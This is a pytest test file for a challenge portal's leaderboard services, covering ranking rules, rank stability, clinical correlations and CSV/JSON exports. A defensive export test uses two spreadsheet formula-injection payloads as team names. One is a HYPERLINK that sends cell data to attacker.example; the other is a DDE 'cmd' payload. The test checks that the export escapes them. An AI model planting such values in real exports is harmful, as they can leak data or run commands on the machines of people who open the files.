"""Ranks, counted submissions, stability and exports, through the services of the leaderboards app."""

import csv
import io
import json
from collections.abc import Callable

import pytest

from portal.leaderboards.models import LeaderboardColumn, LeaderboardEntry, LeaderboardSettings, RankStability
from portal.leaderboards.services import (
    leaderboard_export,
    leaderboard_publish,
    leaderboard_rebuild,
    leaderboard_rebuild_schedule,
    leaderboard_stability_rebuild,
)
from portal.leaderboards.tasks import leaderboard_rebuild_task, leaderboard_stability_task
from portal.submissions.models import Submission
from tests.portal.leaderboards.conftest import TABLE, Board, scored_submission
from tests.portal.submissions.conftest import OpenPhase, open_phase  # noqa: F401 (a fixture used below)

Counted = LeaderboardSettings.CountedSubmission

WORSE_THAN_EVERYONE = ((0.1, 9.0, 3, 0.0),) * 3
BETTER_THAN_EVERYONE = ((1.0, 0.0, 0, 1.0),) * 3


def board_rows(board: Board) -> list[tuple[int, str, float]]:
    rows = LeaderboardEntry.objects.filter(phase=board.phase).select_related("team", "user").order_by("rank")
    return [(row.rank, row.team.name if row.team else row.user.username, row.score) for row in rows]


def test_rebuild_ranks_three_submitters_as_computed_by_hand(board: Board) -> None:
    # Per case, the mean over the four metric ranks: Alpha 1.25, 2, 1.75; Beta 2.125, 1, 3; carol 2.625,
    # 3, 1.25. Averaged over the cases: Alpha 5/3, Beta 6.125/3, carol 6.875/3.
    leaderboard_rebuild(phase=board.phase)

    assert board_rows(board) == [
        (1, "Alpha", pytest.approx(5 / 3)),
        (2, "Beta", pytest.approx(6.125 / 3)),
        (3, "carol", pytest.approx(6.875 / 3)),
    ]


def test_rebuild_stores_each_columns_mean_and_sd(board: Board) -> None:
    leaderboard_rebuild(phase=board.phase)

    alpha = LeaderboardEntry.objects.get(phase=board.phase, team=board.teams["Alpha"])
    assert alpha.metrics["dice"]["mean"] == pytest.approx((0.9 + 0.5 + 0.8) / 3)
    assert alpha.metrics["dice"]["sd"] == pytest.approx(0.169967, abs=1e-6)
    assert alpha.metrics["absolute_volume_difference_ml"]["mean"] == pytest.approx(8 / 3)
    assert [column.metric_key for column in LeaderboardColumn.objects.filter(phase=board.phase)] == [
        "dice",
        "absolute_volume_difference_ml",
        "absolute_lesion_count_difference",
        "lesion_f1",
    ]


def test_aggregate_then_rank_ranks_the_means(board: Board) -> None:
    # Rank of the means per metric: Alpha 1, 2, 1.5, 1 -> 1.375; Beta 2, 1, 1.5, 2.5 -> 1.75.
    board.settings(ranking_method=LeaderboardSettings.RankingMethod.AGGREGATE_THEN_RANK)

    leaderboard_rebuild(phase=board.phase)

    assert board_rows(board) == [
        (1, "Alpha", pytest.approx(1.375)),
        (2, "Beta", pytest.approx(1.75)),
        (3, "carol", pytest.approx(2.875)),
    ]


def test_a_column_left_out_of_the_ranking_is_shown_but_not_ranked(board: Board) -> None:
    leaderboard_rebuild(phase=board.phase)
    LeaderboardColumn.objects.filter(phase=board.phase).exclude(metric_key="dice").update(in_ranking=False)

    leaderboard_rebuild(phase=board.phase)

    assert [name for _, name, _ in board_rows(board)] == ["Alpha", "Beta", "carol"]
    carol = LeaderboardEntry.objects.get(phase=board.phase, user=board.people["carol"])
    assert set(carol.metrics) == {
        "dice",
        "absolute_volume_difference_ml",
        "absolute_lesion_count_difference",
        "lesion_f1",
    }


def add_second_alpha_submission(
    board: Board, rows: tuple[tuple[float, float, float, float], ...]
) -> Submission:
    return scored_submission(
        phase=board.phase, creator=board.people["teammate"], team=board.teams["Alpha"], rows=rows
    )


def counted_alpha_submission(board: Board) -> int:
    return LeaderboardEntry.objects.get(phase=board.phase, team=board.teams["Alpha"]).submission_id


def test_latest_rule_counts_the_teams_newest_submission(board: Board) -> None:
    newer = add_second_alpha_submission(board, WORSE_THAN_EVERYONE)

    leaderboard_rebuild(phase=board.phase)

    assert counted_alpha_submission(board) == newer.pk
    assert board_rows(board)[-1][1] == "Alpha"
    assert LeaderboardEntry.objects.filter(phase=board.phase).count() == 3


def test_best_rule_counts_the_teams_best_ranked_submission(board: Board) -> None:
    add_second_alpha_submission(board, WORSE_THAN_EVERYONE)
    board.settings(counted_submission=Counted.BEST)

    leaderboard_rebuild(phase=board.phase)

    assert counted_alpha_submission(board) == board.submissions["Alpha"].pk
    assert board_rows(board)[0][1] == "Alpha"


def test_selected_rule_counts_the_submission_the_team_chose(board: Board) -> None:
    Submission.objects.filter(pk=board.submissions["Alpha"].pk).update(is_final_selection=True)
    add_second_alpha_submission(board, BETTER_THAN_EVERYONE)
    board.settings(counted_submission=Counted.SELECTED)

    leaderboard_rebuild(phase=board.phase)

    assert counted_alpha_submission(board) == board.submissions["Alpha"].pk


def test_selected_rule_falls_back_to_the_latest_when_nothing_is_chosen(board: Board) -> None:
    newer = add_second_alpha_submission(board, BETTER_THAN_EVERYONE)
    board.settings(counted_submission=Counted.SELECTED)

    leaderboard_rebuild(phase=board.phase)

    assert counted_alpha_submission(board) == newer.pk


def test_failed_submissions_never_reach_the_leaderboard(board: Board) -> None:
    failed = add_second_alpha_submission(board, BETTER_THAN_EVERYONE)
    Submission.objects.filter(pk=failed.pk).update(status=Submission.Status.FAILED)

    leaderboard_rebuild(phase=board.phase)

    assert counted_alpha_submission(board) == board.submissions["Alpha"].pk


def test_rebuild_stores_the_ranks_first_and_queues_their_stability(
    board: Board, django_capture_on_commit_callbacks: Callable[..., object]
) -> None:
    with django_capture_on_commit_callbacks() as callbacks:
        leaderboard_rebuild(phase=board.phase)

    assert len(callbacks) == 1
    entry = LeaderboardEntry.objects.filter(phase=board.phase).first()
    assert entry.rank_counts == {}
    assert entry.median_rank is None
    assert RankStability.objects.get(phase=board.phase).summary == {"entries": 3}


def test_stability_rebuild_stores_bootstrap_ranks_and_pairwise_tests(board: Board) -> None:
    leaderboard_rebuild(phase=board.phase)

    leaderboard_stability_rebuild(phase=board.phase)

    stability = RankStability.objects.get(phase=board.phase)
    assert stability.summary["samples"] == 1000
    assert stability.summary["entries"] == 3
    assert [tests["metric"] for tests in stability.summary["pairwise"]] == [
        "dice",
        "absolute_volume_difference_ml",
        "absolute_lesion_count_difference",
        "lesion_f1",
    ]
    for entry in LeaderboardEntry.objects.filter(phase=board.phase):
        assert sum(entry.rank_counts.values()) == 1000
        assert entry.rank_interval[0] <= entry.median_rank <= entry.rank_interval[1]
        assert json.loads(entry.api_document)["median_rank"] == entry.median_rank


def test_stability_rebuild_correlates_predicted_volume_with_the_clinical_scores_present(board: Board) -> None:
    leaderboard_rebuild(phase=board.phase)

    leaderboard_stability_rebuild(phase=board.phase)

    alpha = LeaderboardEntry.objects.get(phase=board.phase, team=board.teams["Alpha"])
    # Predicted volumes 11, 25, 42 ml rise with NIHSS 4, 9, 15; one mRS is not a number, so two pairs
    # remain and no mRS correlation is given.
    assert list(alpha.clinical_correlations) == ["NIHSS at admission"]
    assert alpha.clinical_correlations["NIHSS at admission"]["rho"] == pytest.approx(1.0)
    assert alpha.clinical_correlations["NIHSS at admission"]["pairs"] == 3


def test_a_new_ranking_keeps_the_clinical_correlations_already_computed(board: Board) -> None:
    leaderboard_rebuild(phase=board.phase)
    leaderboard_stability_rebuild(phase=board.phase)

    leaderboard_rebuild(phase=board.phase)

    alpha = LeaderboardEntry.objects.get(phase=board.phase, team=board.teams["Alpha"])
    assert list(alpha.clinical_correlations) == ["NIHSS at admission"]


def test_rebuild_task_ranks_the_phase_then_its_stability(
    board: Board, django_capture_on_commit_callbacks: Callable[..., object]
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        leaderboard_rebuild_task.delay(phase_id=board.phase.pk)

    assert [name for _, name, _ in board_rows(board)] == ["Alpha", "Beta", "carol"]
    assert RankStability.objects.get(phase=board.phase).summary["samples"] == 1000


def stored_board(board: Board) -> list[dict[str, object]]:
    fields = ("submission_id", "rank", "score", "rank_counts", "api_document")
    return list(LeaderboardEntry.objects.filter(phase=board.phase).order_by("rank").values(*fields))


def test_rebuild_task_run_again_changes_nothing(
    board: Board, django_capture_on_commit_callbacks: Callable[..., object]
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        leaderboard_rebuild_task.delay(phase_id=board.phase.pk)
    first = stored_board(board)

    with django_capture_on_commit_callbacks(execute=True):
        leaderboard_rebuild_task.delay(phase_id=board.phase.pk)

    assert stored_board(board) == first
    assert RankStability.objects.filter(phase=board.phase).count() == 1


def test_rebuild_and_stability_tasks_of_a_deleted_phase_do_nothing(db: None) -> None:
    leaderboard_rebuild_task.delay(phase_id=987654)
    leaderboard_stability_task.delay(phase_id=987654)

    assert not LeaderboardEntry.objects.exists()
    assert not RankStability.objects.exists()


def test_stability_of_a_phase_not_ranked_yet_does_nothing(board: Board) -> None:
    leaderboard_stability_task.delay(phase_id=board.phase.pk)

    assert not RankStability.objects.exists()


def test_a_phase_without_scored_submissions_gets_an_empty_board(board: Board) -> None:
    leaderboard_rebuild(phase=board.phase)
    Submission.objects.filter(phase=board.phase).update(status=Submission.Status.CANCELLED)

    leaderboard_rebuild(phase=board.phase)

    assert not LeaderboardEntry.objects.filter(phase=board.phase).exists()
    assert not RankStability.objects.filter(phase=board.phase).exists()


def test_schedule_queues_the_rebuild_only_after_the_commit(
    board: Board, django_capture_on_commit_callbacks: Callable[..., object]
) -> None:
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        leaderboard_rebuild_schedule(phase_id=board.phase.pk)
        assert not LeaderboardEntry.objects.exists()

    assert len(callbacks) == 2  # the rebuild, then the stability it queued
    assert LeaderboardEntry.objects.filter(phase=board.phase).count() == 3
    assert RankStability.objects.get(phase=board.phase).summary["samples"] == 1000


def test_a_scored_submission_appears_on_the_leaderboard_with_its_volumes(
    open_phase: OpenPhase,  # noqa: F811 (the fixture imported above)
    django_capture_on_commit_callbacks: Callable[..., object],
) -> None:
    from portal.submissions.services import submission_create

    with django_capture_on_commit_callbacks(execute=True):
        submission = submission_create(
            phase=open_phase.phase, user=open_phase.participant, upload=open_phase.upload_good()
        )

    entry = LeaderboardEntry.objects.get(phase=open_phase.phase)
    assert entry.submission_id == submission.pk
    assert entry.team == open_phase.team
    assert entry.metrics["dice"]["mean"] == pytest.approx(1.0)
    result = submission.case_results.first()
    assert result.metrics["predicted_volume_ml"] == pytest.approx(result.metrics["reference_volume_ml"])


def test_publish_makes_a_manual_leaderboard_public(board: Board) -> None:
    board.settings(publication=LeaderboardSettings.Publication.MANUAL)

    settings = leaderboard_publish(phase=board.phase)

    assert settings.is_published
    assert LeaderboardSettings.objects.get(phase=board.phase).is_published


def test_leaderboard_export_as_csv_lists_ranks_and_means(board: Board) -> None:
    leaderboard_rebuild(phase=board.phase)

    export = leaderboard_export(phase=board.phase, table="leaderboard", file_format="csv")

    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert [(row["rank"], row["team"]) for row in rows] == [("1", "Alpha"), ("2", "Beta"), ("3", "carol")]
    assert float(rows[0]["dice_mean"]) == pytest.approx((0.9 + 0.5 + 0.8) / 3)
    assert export.filename == "final-leaderboard.csv"


HOSTILE_TEAM_NAMES = {
    "Alpha": '=HYPERLINK("https://attacker.example/?leak="&A1,"Details")',
    "Beta": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("table", ["leaderboard", "cases"])
def test_csv_exports_write_team_names_a_spreadsheet_would_run_as_text(board: Board, table: str) -> None:
    for key, name in HOSTILE_TEAM_NAMES.items():
        board.teams[key].name = name
        board.teams[key].save(update_fields=["name"])
    leaderboard_rebuild(phase=board.phase)

    export = leaderboard_export(phase=board.phase, table=table, file_format="csv")

    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert {row["team"] for row in rows} == {f"'{name}" for name in HOSTILE_TEAM_NAMES.values()} | {"carol"}
    assert all(float(row["rank"]) >= 1 for row in rows)  # numbers are left as numbers


def test_case_export_as_json_has_one_row_per_entry_and_case(board: Board) -> None:
    leaderboard_rebuild(phase=board.phase)

    export = leaderboard_export(phase=board.phase, table="cases", file_format="json")

    rows = json.loads(export.content)
    assert len(rows) == 9
    assert rows[0]["team"] == "Alpha"
    assert rows[0]["case"] == "sub-stroke0100"
    assert rows[0]["dice"] == TABLE["Alpha"][0][0]
    assert export.content_type == "application/json"
